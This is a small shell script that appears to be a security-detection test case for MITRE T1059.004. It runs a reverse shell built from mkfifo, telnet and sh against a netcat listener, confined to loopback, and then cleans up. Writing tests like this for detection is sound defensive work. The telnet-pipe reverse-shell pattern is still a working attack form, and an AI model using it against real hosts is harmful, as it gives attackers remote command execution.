#!/bin/sh
# case: T1059.004-reverse-shell-mkfifo-telnet
# technique: Unix Shell: telnet in place of nc carries a shell
# source: cdk-team/CDK reverse-shell; GTFOBins telnet
# needs: nc telnet mkfifo
# expect: exec net
# where: container
# image: busybox
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need nc telnet mkfifo
P=$((20000 + $$ % 20000)); mkfifo "$W/p"; ( sleep 1; echo id; echo exit; sleep 1 ) | nc -l -s 127.0.0.1 -p "$P" >/dev/null 2>&1 & L=$!
sleep 1; ( telnet 127.0.0.1 "$P" < "$W/p" 2>/dev/null | sh > "$W/p" 2>&1 ) & C=$!
sleep 3; kill "$C" "$L" 2>/dev/null; wait 2>/dev/null; true
exit 0
